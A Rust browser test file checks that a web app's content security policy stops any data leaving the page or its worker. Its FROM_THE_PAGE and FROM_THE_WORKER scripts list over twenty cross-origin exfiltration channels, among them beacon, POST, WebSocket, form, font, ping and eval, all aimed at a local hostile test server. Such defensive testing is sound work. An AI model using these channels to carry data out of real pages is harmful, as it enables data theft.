//! The promise: nothing leaves the browser, whatever runs in the page or in its worker.

use std::time::Duration;

use holdfast_e2e::site::Host;
use holdfast_e2e::{devtools, site};
use serde_json::json;
use xtask::server;

/// Everything a script in the page can try to reach another origin, but leave the page.
const FROM_THE_PAGE: &str = r##"
    const [base, done] = [arguments[0], arguments[1]];
    const ways = {
      fetch: () => fetch(base + "fetch"),
      post: () => fetch(base + "post", { method: "POST", body: "cells", mode: "no-cors" }),
      keepalive: () => fetch(base + "keepalive", { keepalive: true, mode: "no-cors" }),
      xhr: () => { const xhr = new XMLHttpRequest(); xhr.open("GET", base + "xhr"); xhr.send(); },
      beacon: () => navigator.sendBeacon(base + "beacon", "cells"),
      image: () => { new Image().src = base + "image"; },
      socket: () => new WebSocket(base.replace("http", "ws") + "socket"),
      events: () => new EventSource(base + "events"),
      import: () => import(base + "import.js"),
      script: () => { const s = document.createElement("script"); s.src = base + "script.js"; document.head.append(s); },
      style: () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = base + "style"; document.head.append(l); },
      prefetch: () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = base + "prefetch"; document.head.append(l); },
      preload: () => { const l = document.createElement("link"); l.rel = "preload"; l.as = "image"; l.href = base + "preload"; document.head.append(l); },
      frame: () => { const f = document.createElement("iframe"); f.src = base + "frame"; document.body.append(f); },
      media: () => { const v = document.createElement("video"); v.src = base + "media"; document.body.append(v); v.load(); },
      object: () => { const o = document.createElement("object"); o.data = base + "object"; document.body.append(o); },
      form: () => { const f = document.createElement("form"); f.action = base + "form"; f.method = "post"; document.body.append(f); f.submit(); },
      background: () => { document.body.style.backgroundImage = `url(${base}background)`; document.body.offsetWidth; },
      font: () => new FontFace("x", `url(${base}font)`).load(),
      ping: () => { const a = document.createElement("a"); a.href = "#/health"; a.ping = base + "ping"; document.body.append(a); a.click(); },
      worker: () => new Worker(base + "worker.js"),
      eval: () => eval(`fetch("${base}eval")`),
      markup: () => { const p = document.createElement("p"); p.innerHTML = `<img src="${base}markup">`; document.body.append(p); },
    };
    Promise.allSettled(Object.values(ways).map(async (way) => way())).then(() => setTimeout(() => done(Object.keys(ways).length), 1500));
"##;

/// The same from inside the worker: what is left of its ways, and whether any works.
const FROM_THE_WORKER: &str = r#"(async (base) => {
    const taken = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "Worker"];
    const left = taken.filter((name) => name in self);
    const ways = [
      () => fetch(base + "fetch"),
      () => importScripts(base + "script.js"),
      () => new WebSocket(base.replace("http", "ws") + "socket"),
      () => import(base + "import.js"),
      () => new Function(`return import("${base}function.js")`)(),
      () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, base + "prototype"),
      () => navigator.serviceWorker?.register(base + "service.js"),
    ];
    const ends = await Promise.allSettled(ways.map(async (way) => way()));
    return { left, worked: ends.filter((end) => end.status === "fulfilled" && end.value).length };
})("BASE")"#;

#[test]
fn nothing_reaches_another_origin_from_the_page() {
    nothing_from_the_page(Host::WithHeaders);
}

#[test]
fn nothing_reaches_another_origin_from_the_page_of_a_plain_file_host() {
    nothing_from_the_page(Host::Bare);
}

#[test]
fn nothing_reaches_another_origin_from_the_worker_on_chromium() {
    nothing_from_the_worker(Host::WithHeaders);
}

#[test]
fn nothing_reaches_another_origin_from_the_worker_of_a_plain_file_host_on_chromium() {
    nothing_from_the_worker(Host::Bare);
}

fn nothing_from_the_page(host: Host) {
    let hostile = server::hostile().expect("a port");
    let (_server, session) = site::open_at(host, "");
    let tried = session.script_async(FROM_THE_PAGE, &[json!(hostile.address())]);
    assert!(tried.as_u64() > Some(20), "{tried}");
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(hostile.requests(), Vec::<String>::new());
}

fn nothing_from_the_worker(host: Host) {
    let hostile = server::hostile().expect("a port");
    let (_server, session) = site::open_at(host, "");
    let address = session.devtools.clone().expect("Chromium's tools");
    let end = devtools::in_worker(&address, &FROM_THE_WORKER.replace("BASE", &hostile.address())).expect("an end");
    assert_eq!(end, json!({ "left": [], "worked": 0 }));
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(hostile.requests(), Vec::<String>::new());
}

/// Without this the tests above would pass against a server that nobody can reach.
#[test]
fn the_hostile_origin_can_be_reached_without_a_policy() {
    let hostile = server::hostile().expect("a port");
    let session = holdfast_e2e::session::Session::open(holdfast_e2e::browser::Browser::chosen());
    // Another loopback server, as a browser keeps pages from elsewhere away from loopback.
    let page = server::hostile().expect("a port");
    session.goto(&page.address());
    let reach = "fetch(arguments[0] + 'fetch').then(() => arguments[1](true), () => arguments[1](false))";
    assert_eq!(session.script_async(reach, &[json!(hostile.address())]), json!(true));
    assert_eq!(hostile.requests(), ["GET /fetch HTTP/1.1"]);
}

#[test]
fn only_the_sites_own_files_are_asked_for_whatever_is_done_on_chromium() {
    let (server, session) = site::open("");
    // Neither of these leaves the browser; the last is its own first page.
    let inside = ["blob:", "data:", "chrome:", "chrome-untrusted:"];
    let requests = || session.requests().into_iter().filter(|(_, url)| !inside.iter().any(|scheme| url.starts_with(scheme)));
    let own = std::fs::read_dir(site::dist()).expect("the built site");
    let names: Vec<String> = own.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    // Files and nothing else: a query or a body could carry something away.
    let all_are_own = |asked: &[(String, String)]| {
        for (method, url) in asked {
            let name = url.strip_prefix(&server.address()).unwrap_or_else(|| panic!("{url} is not ours"));
            assert_eq!(method, "GET");
            assert!(name.is_empty() || name.starts_with('#') || names.iter().any(|own| own == name), "{url} is not in dist/");
        }
    };
    let opened: Vec<(String, String)> = requests().collect();
    assert!(opened.len() > 5, "{opened:?}");
    all_are_own(&opened);
    session.choose(&[&session.file("customers.csv", b"id,name\n1,Alder\n")]);
    session.wait("document.documentElement.dataset.state === 'ready'");
    for route in ["#/today", "#/accounts/1", "#/data?asof=2026-01-31&lang=zh&theme=dark"] {
        let _ = session.script("location.hash = arguments[0]", &[json!(route)]);
    }
    std::thread::sleep(Duration::from_millis(500));
    // The code of the screens came; once it is there, nothing is asked for any more.
    let parts: Vec<(String, String)> = requests().collect();
    assert!(!parts.is_empty() && parts.iter().all(|(_, url)| url.contains("/page-")), "{parts:?}");
    all_are_own(&parts);
    let before = server.requests();
    for route in ["#/health", "#/accounts", "#/data"] {
        let _ = session.script("location.hash = arguments[0]", &[json!(route)]);
        session.choose(&[&session.file("more.csv", b"id,name\n2,Birch\n")]);
        // It is busy with the file before it is ready again.
        std::thread::sleep(Duration::from_millis(300));
        session.wait("document.documentElement.dataset.state === 'ready'");
    }
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(requests().collect::<Vec<_>>(), []);
    assert_eq!(server.requests(), before);
    assert!(session.text("[data-testid=requests]").starts_with("0 requests"), "{}", session.text("[data-testid=requests]"));
}

#[test]
fn nothing_in_normal_use_is_against_the_policy_on_chromium() {
    let (_server, session) = site::open("");
    let policy = session.script("return document.querySelector('meta[http-equiv]').content", &[]);
    let policy = policy.as_str().unwrap_or_default();
    for rule in ["default-src 'none'", "connect-src 'self'", "require-trusted-types-for 'script'", "trusted-types holdfast"] {
        assert!(policy.contains(rule), "{policy}");
    }
    assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{policy}");
    session.choose(&[&session.file("customers.csv", b"id,name\n1,Alder\n")]);
    session.wait("document.documentElement.dataset.state === 'ready'");
    session.click("[data-testid=language] button:last-child");
    session.click("[data-testid=theme] button:last-child");
    let said: Vec<String> = session.console().into_iter().map(|entry| format!("{}: {}", entry.level, entry.message)).collect();
    assert_eq!(said, Vec::<String>::new());
}

#[test]
fn the_policy_is_enforced_where_a_script_asks_for_more() {
    let (_server, session) = site::open("");
    // In a turn of its own: what the driver itself evaluates is excused from the rule on `eval`.
    let attempt = |body: &str| {
        let attempt = format!("try {{ {body}; done('allowed') }} catch (error) {{ done(error.name) }}");
        session.script_async(&format!("const done = arguments[0]; setTimeout(() => {{ {attempt} }})"), &[])
    };
    assert_eq!(attempt("eval('1')"), json!("EvalError"));
    assert_eq!(attempt("document.body.innerHTML = '<p>'"), json!("TypeError"));
    assert_eq!(attempt("new Worker(URL.createObjectURL(new Blob([''])))"), json!("TypeError"));
    assert_eq!(attempt("trustedTypes.createPolicy('other', {})"), json!("TypeError"));
    assert_eq!(attempt("trustedTypes.createPolicy('holdfast', {})"), json!("TypeError"));
}

/// On a plain file host nothing forbids the frame; the page itself shows nothing in it.
#[test]
fn a_frame_of_another_page_shows_no_data() {
    let site = site::serve(Host::Bare);
    let session = holdfast_e2e::session::Session::open(holdfast_e2e::browser::Browser::chosen());
    let page = server::hostile().expect("a port");
    session.goto(&page.address());
    let frame = "const frame = document.createElement('iframe'); frame.src = arguments[0]; document.body.append(frame)";
    let _ = session.script(frame, &[json!(site.address())]);
    session.enter_frame();
    session.wait("document.querySelector('.framed')");
    assert_eq!(session.script("return document.querySelector('main, input, .shell') === null", &[]), json!(true));
}
